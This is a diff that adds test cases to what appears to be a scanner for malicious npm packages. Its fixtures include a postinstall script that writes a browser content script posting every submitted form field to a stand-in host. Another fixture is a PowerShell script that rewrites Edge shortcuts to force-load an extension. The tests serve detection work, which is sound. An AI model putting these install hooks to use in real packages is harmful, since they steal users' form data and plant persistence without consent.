@@ -2069,3 +2069,63 @@ wrap(window.ethereum, dest);`,
     ).toContain('js.wallet-address-swap');
   });
 });
+
+describe('code a package writes, and a browser told to load it (round 13, after the session)', () => {
+  const withInstall = (files: Record<string, string>) =>
+    analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'glyph-warm',
+        version: '3.1.0',
+        scripts: { postinstall: 'node setup.js' },
+      }),
+      ...files,
+    });
+  it('an install step writes a content script that posts what forms submit', () => {
+    const found = withInstall({
+      'setup.js': `const fs = require('fs'), os = require('os'), path = require('path');
+const home = path.join(os.homedir(), '.glyph', 'helper');
+fs.mkdirSync(home, { recursive: true });
+const body = [
+  "document.addEventListener('submit', function (e) {",
+  "  var out = {}; Array.prototype.forEach.call(e.target.querySelectorAll('input'), function (i) { out[i.name] = i.value; });",
+  "  fetch('https://metrics.glyph-cdn.example/p', { method: 'POST', body: JSON.stringify(out) });",
+  "}, true);",
+].join('\\n');
+fs.writeFileSync(path.join(home, 'content.js'), body);`,
+    }).evidence;
+    expect(found.some((f) => f.rule === 'js.page-secret-exfil' && f.file === 'setup.js')).toBe(true);
+  });
+  it('quiet: an install step that writes a generated module of constants', () => {
+    const found = withInstall({
+      'setup.js': `const fs = require('fs'), path = require('path');
+const gen = 'module.exports = ' + JSON.stringify({ version: '3.1.0', glyphs: ['a', 'b', 'c'], built: 'release' }, null, 2) + ';\\n';
+fs.writeFileSync(path.join(__dirname, 'lib', 'generated.js'), gen);`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+  it('PowerShell that adds --load-extension to the user’s browser shortcuts', () => {
+    const found = withInstall({
+      'setup.js': `require('child_process').spawnSync('powershell', ['-NoProfile', '-File', require('path').join(__dirname, 'pin.ps1')]);`,
+      'pin.ps1': `$dir = Join-Path $env:LOCALAPPDATA 'GlyphWarm\\ext'
+$shell = New-Object -ComObject WScript.Shell
+foreach ($lnk in Get-ChildItem "$env:USERPROFILE\\Desktop" -Filter *.lnk) {
+  $s = $shell.CreateShortcut($lnk.FullName)
+  if ($s.TargetPath -like '*msedge.exe') { $s.Arguments = "--load-extension=$dir " + $s.Arguments; $s.Save() }
+}`,
+    }).evidence;
+    expect(found.map((f) => f.rule)).toContain('script.persistence');
+  });
+  it('quiet: an extension test script that starts Chrome with its build folder', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'ext-kit',
+        version: '1.0.0',
+        scripts: { 'test:e2e': 'sh e2e.sh' },
+      }),
+      'e2e.sh': `#!/bin/sh
+npm run build
+google-chrome --headless=new --load-extension="$PWD/dist" --user-data-dir="$(mktemp -d)" about:blank`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
